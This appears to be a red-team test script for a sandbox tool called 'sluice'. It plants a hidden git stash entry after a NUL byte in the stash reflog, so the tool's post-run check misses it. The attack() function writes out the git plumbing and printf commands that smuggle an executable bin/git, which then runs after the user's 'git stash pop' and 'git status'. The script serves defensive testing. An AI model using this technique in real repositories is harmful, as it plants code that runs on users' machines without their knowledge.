#!/usr/bin/env bash
# red team 48: the stash's reflog with a NUL byte. The check after a run
# reads logs/refs/stash as a C string (broker/run/git-later-stash.c,
# read_log(): the loop stops at the first NUL), git reads it line by line
# (a line it cannot parse is skipped). The user has a stash entry of their
# own. The command writes a stash entry of its own (untracked files: an
# executable bin/git; git objects only) and appends to the reflog a line
# "\0" then the entry's line; refs/stash is left as it was. The check sees
# no new entry; git sees it as stash@{0}. The user's `git stash pop`
# writes bin/git, and the next `git status` with direnv's PATH_add bin
# runs it. The same without the NUL line is caught (stash-reflog in
# tests/integration/sandbox-gitlater.sh).
# usage: 48-stash-reflog-nul.sh /path/to/sluice   (as root or a user)
NAME=stash-reflog-nul
HOLE="the user's git stash pop wrote the command's bin/git from an entry after a NUL in the reflog; the next git status ran it"
. "$(dirname "$0")/48-lib.sh"
setup() { new_repo "$1" && echo mine >>"$1/a" && git -C "$1" stash -q; }
attack() {
  plant "$1"
  echo '&& u=$($G commit-tree -m untracked $(printf "040000 tree %s\tbin\n" $bt | $G mktree)) && s=$($G rev-parse refs/stash)'
  echo '&& t=$($G rev-parse HEAD^{tree}) && i=$($G commit-tree -p HEAD -m index $t) && w=$($G commit-tree -p HEAD -p $i -p $u -m WIP $t)'
  echo '&& printf "\000\n" >>.git/logs/refs/stash'
  echo '&& printf "%s %s t <t@example.invalid> %s +0000\tWIP on main: a\n" $s $w "$(date +%s)" >>.git/logs/refs/stash'
}
trigger() { git -C "$1" stash pop -q >/dev/null 2>&1; user_status "$1"; }
finish
